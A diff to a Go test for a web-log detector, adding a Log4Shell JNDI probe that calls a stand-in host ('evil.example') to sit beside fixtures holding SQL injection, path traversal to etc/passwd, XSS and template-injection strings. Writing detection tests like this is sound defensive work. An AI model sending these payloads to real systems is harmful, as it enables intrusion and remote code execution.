@@ -226,28 +226,31 @@ func TestSourceScreensPayloadsAndScanners(t *testing.T) {
 	b.WriteString(line("10.0.0.2", now, "/items?id=..%2f..%2fetc%2fpasswd", 200, "curl/8", "192.0.2.99, 198.51.100.60"))
 	// the proxy's own request carrying a payload: nobody to blame
 	b.WriteString(line("10.0.0.2", now, "/items?id=%7B%7B7*7%7D%7D", 200, "curl/8", "-"))
+	// Log4Shell's probe in the user agent
+	b.WriteString(line("203.0.113.55", now, "/", 404, "${jndi:ldap://evil.example/a}", "-"))
 	// an hour old: stale for every rule
 	b.WriteString(line("203.0.113.54", "27/Nov/2026:09:22:02 +0000", "/items?id=%27%20or%201=1--", 200, "Nikto", "-"))
 	cfg := SourceConfig{Format: "combined", Forwarded: true, Proxies: clientip.Trusted{netip.MustParsePrefix("10.0.0.2/32")},
 		Matcher: det.Matcher}
-	got, st := runSource(t, cfg, b.String(), 7)
+	got, st := runSource(t, cfg, b.String(), 8)
 	want := []detect.Signal{
-		{Client: netip.MustParseAddr("203.0.113.50"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=1%27%20or%20%271%27=%271", Status: 200},
+		{Client: netip.MustParseAddr("203.0.113.50"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=1%27%20or%20%271%27=%271", UserAgent: "curl/8", Status: 200},
 		{Client: netip.MustParseAddr("203.0.113.52"), At: lineAt, Age: lineAge, Method: "GET", Path: "/", UserAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)", Status: 200},
-		{Client: netip.MustParseAddr("203.0.113.53"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=%3Cscript%3Ealert(1)%3C/script%3E", Status: 404},
-		{Client: netip.MustParseAddr("198.51.100.60"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=..%2f..%2fetc%2fpasswd", Status: 200},
+		{Client: netip.MustParseAddr("203.0.113.53"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=%3Cscript%3Ealert(1)%3C/script%3E", UserAgent: "curl/8", Status: 404},
+		{Client: netip.MustParseAddr("198.51.100.60"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=..%2f..%2fetc%2fpasswd", UserAgent: "curl/8", Status: 200},
+		{Client: netip.MustParseAddr("203.0.113.55"), At: lineAt, Age: lineAge, Method: "GET", Path: "/", UserAgent: "${jndi:ldap://evil.example/a}", Status: 404},
 	}
 	if !slices.Equal(got, want) {
 		t.Fatalf("signals\n%+v\nwant\n%+v", got, want)
 	}
-	if st.Probes != 6 || st.AllTrusted != 1 || st.Stale != 1 || st.Signals != 4 {
+	if st.Probes != 7 || st.AllTrusted != 1 || st.Stale != 1 || st.Signals != 5 {
 		t.Fatalf("stats %+v", st)
 	}
 
 	// without a matcher only the status counts, as before
 	cfg.Matcher = nil
-	got, st = runSource(t, cfg, b.String(), 7)
-	if len(got) != 1 || got[0].Status != 404 || got[0].Query != "" || st.Probes != 0 {
+	got, st = runSource(t, cfg, b.String(), 8)
+	if len(got) != 2 || got[0].Status != 404 || got[0].Query != "" || st.Probes != 0 {
 		t.Fatalf("without a matcher: %+v, %+v", got, st)
 	}
 }
